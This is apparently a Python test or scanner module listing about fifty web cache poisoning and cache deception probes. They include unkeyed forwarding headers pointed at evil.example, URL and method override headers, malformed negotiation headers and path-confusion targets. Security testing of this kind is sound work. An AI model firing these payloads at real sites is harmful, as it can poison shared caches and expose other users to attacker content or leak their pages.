"""50 ways to have a cache keep what was made for somebody else: what is sent first, by whom the next reader suffers."""

from dataclasses import dataclass, field

EVIL = "evil.example"


@dataclass(frozen=True)
class Poisoning:
    """A request before a clean reader's to the same page.

    :param target: of the request; ``{}`` is the page's address, with a query of its own.
    """

    name: str
    headers: dict[str, str] = field(default_factory=dict)
    target: str = "{}"
    method: str = "GET"
    body: str = ""


UNKEYED = (
    "X-Forwarded-Host X-Host X-Forwarded-Server X-HTTP-Host-Override X-Original-Host Forwarded-Host X-Real-Host "
    "X-Forwarded-For X-Real-IP True-Client-IP Via Referer Origin User-Agent"
).split()
PATHS = ("X-Original-URL", "X-Rewrite-URL", "X-Forwarded-Path", "X-Accel-Redirect", "X-Forwarded-Prefix")
METHODS = ("X-HTTP-Method-Override", "X-HTTP-Method", "X-Method-Override")

POISONINGS = (
    *(Poisoning(name, {name: EVIL}) for name in UNKEYED),
    *(Poisoning(name, {name: "/desk/sign-in"}) for name in PATHS),
    *(Poisoning(name, {name: "POST"}) for name in METHODS),
    Poisoning("Forwarded", {"Forwarded": f"for=1.2.3.4;host={EVIL};proto=http"}),
    Poisoning("two forwarded hosts", {"X-Forwarded-Host": f"localhost, {EVIL}"}),
    Poisoning("scheme", {"X-Forwarded-Scheme": "http", "X-Forwarded-Ssl": "off"}),
    Poisoning("protocol", {"X-Forwarded-Proto": "http"}),
    Poisoning("protocol that is none", {"X-Forwarded-Proto": "evil"}),
    Poisoning("port", {"X-Forwarded-Port": "1234"}),
    Poisoning("cookie", {"Cookie": f"lang=en; session={EVIL}"}),
    Poisoning("authorization", {"Authorization": "Basic ZXZpbDpldmls"}),
    Poisoning("language", {"Accept-Language": "en, *;q=0"}),
    Poisoning("table", {"Accept": "text/csv"}),
    Poisoning("figures", {"Accept": "application/json"}),
    Poisoning("nothing that is offered", {"Accept": "image/webp"}),
    Poisoning("broken Accept", {"Accept": "text/html;q=x,,;"}),
    Poisoning("encoding unknown", {"Accept-Encoding": "deflate, zstd, evil"}),
    Poisoning("encoding refused", {"Accept-Encoding": "identity;q=0, *;q=0"}),
    Poisoning("part", {"Range": "bytes=0-9"}),
    Poisoning("part that is none", {"Range": "bytes=99999999-"}),
    Poisoning("held already", {"If-None-Match": "*"}),
    Poisoning("held long", {"If-Modified-Since": "Fri, 01 Jan 2100 00:00:00 GMT"}),
    Poisoning("must match", {"If-Match": '"nothing"'}),
    Poisoning("head", method="HEAD"),
    Poisoning("options", method="OPTIONS"),
    Poisoning("post", method="POST", body="about=//evil.example"),
    Poisoning("fat get", {"Content-Type": "application/x-www-form-urlencoded"}, body="x=evil.example"),
    Poisoning("upgrade", {"Upgrade": "h2c", "HTTP2-Settings": "AAMAAABkAARAAAAAAAIAAAAA"}),
    Poisoning("large header", {"X-Large": "x" * 7000}),
    Poisoning("control character", {"X-Bad": "a\x01b"}),
    Poisoning("parameter twice", target="{}&x=evil.example"),
    Poisoning("parameter behind a semicolon", target="{};x=evil.example"),
    Poisoning("parameter of another's counting", target="{}&utm_content=evil.example"),
    Poisoning("fragment", target="{}#evil.example"),
    Poisoning("path parameter", target="/localities/tra-cau;evil.css{query}"),
    Poisoning("encoded slash", target="/localities%2ftra-cau{query}"),
    Poisoning("dots", target="/localities/./x/../tra-cau{query}"),
    Poisoning("style beside", target="/localities/tra-cau/evil.css{query}"),
    Poisoning("encoded question mark", target="/localities/tra-cau%3fevil{query}"),
)
